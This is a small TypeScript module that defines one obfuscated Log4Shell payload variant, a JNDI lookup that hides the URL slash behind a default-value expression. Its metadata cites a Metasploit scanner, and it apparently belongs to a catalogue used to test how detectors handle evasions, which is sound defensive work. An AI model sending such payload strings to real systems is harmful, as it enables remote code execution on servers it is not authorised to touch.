import { afterScheme, disguise } from '../form.ts'

export const defaultSlash = disguise(
  {
    id: 'default-slash',
    summary: 'a slash of the URL as a default',
    firesOn: ['B', 'C'],
    seenIn: ['Metasploit log4shell_scanner'],
  },
  (target) => `\${jndi:${target.scheme}:\${::-/}${afterScheme(target).slice(1)}}`,
)
